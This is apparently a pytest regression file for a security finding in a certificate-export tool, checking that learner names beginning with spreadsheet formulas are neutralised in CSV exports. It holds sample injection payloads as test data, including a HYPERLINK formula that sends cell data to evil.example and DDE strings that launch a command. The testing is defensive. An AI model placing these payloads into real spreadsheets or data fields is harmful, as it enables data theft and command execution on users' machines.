"""Finding 6: a learner's name reached the CSV export as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from certmint.domain.enrolment_import import parse_enrolment_csv
from certmint.domain.spreadsheets import FORMULA_STARTS, SpreadsheetCsvWriter
from certmint.rendering import FontSet
from certmint.services.certificates.documents import CertificateDocuments
from certmint.services.certificates.exports import export_batch
from certmint.services.demo import demo_enrolments_csv
from certmint.services.issuance.in_process import issue_achievement
from certmint.services.issuance.planning import IssueRequest
from certmint.services.issuers.signing import Signing
from certmint.storage.unit_of_work import SqlAlchemyUnitOfWork
from tests.factories import HEADER, enrolment_row, scenario

HOSTILE = {
    "L1": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "L2": "+SUM(1+1)*cmd|' /C calc'!A0",
    "L3": "-2+3+cmd|' /C calc'!A0",
    "L4": "@SUM(1+1)",
    "L5": "'Ofa Tonga",  # an apostrophe that is part of a name stays
}


def test_no_exported_cell_starts_a_formula_and_names_read_back_unchanged(
    uow: SqlAlchemyUnitOfWork, signing: Signing, fonts: FontSet, tmp_path: Path
) -> None:
    rows = [enrolment_row(learner, name=name) for learner, name in HOSTILE.items()]
    s = scenario(uow, signing, rows)
    assert (
        issue_achievement(uow, signing, IssueRequest(s.organisation.id, s.achievement_id)).issued
        == 5
    )
    out = tmp_path / "export"
    export_batch(
        uow,
        s.organisation.id,
        s.batch_id,
        "csv",
        out,
        documents=CertificateDocuments(lambda: fonts, signing.links, tmp_path / "cache"),
    )
    table = list(csv.DictReader(io.StringIO((out / "certificates.csv").read_text("utf-8"))))
    assert len(table) == 5
    for row in table:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    exported = {row["learner_id"]: row["name"] for row in table}
    assert exported == {
        "L1": "'" + HOSTILE["L1"],
        "L2": "'" + HOSTILE["L2"],
        "L3": "'" + HOSTILE["L3"],
        "L4": "'" + HOSTILE["L4"],
        "L5": HOSTILE["L5"],
    }

    # Round trip: the exported cells, pasted as they are into an enrolment file, import as the
    # names they were.
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(HEADER)
    for learner, cell in exported.items():
        writer.writerow([enrolment_row(learner, name=cell).get(c, "") for c in HEADER])
    parsed = parse_enrolment_csv(text.getvalue().encode("utf-8"))
    assert parsed.ok, parsed.problems
    assert {r.learner_id: r.name for r in parsed.records} == HOSTILE


def test_tab_and_carriage_return_starts_are_quoted_too() -> None:
    text = io.StringIO()
    SpreadsheetCsvWriter(text).writerow(["\t=1+1", "\r=1+1", "plain", 5, None])
    cells = next(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert cells == ["'\t=1+1", "'\r=1+1", "plain", "5", ""]


def test_the_demo_file_goes_through_the_same_writer() -> None:
    table = list(csv.reader(io.StringIO(demo_enrolments_csv().decode("utf-8"))))
    assert all(not cell.startswith(FORMULA_STARTS) for row in table for cell in row)
    assert parse_enrolment_csv(demo_enrolments_csv()).ok
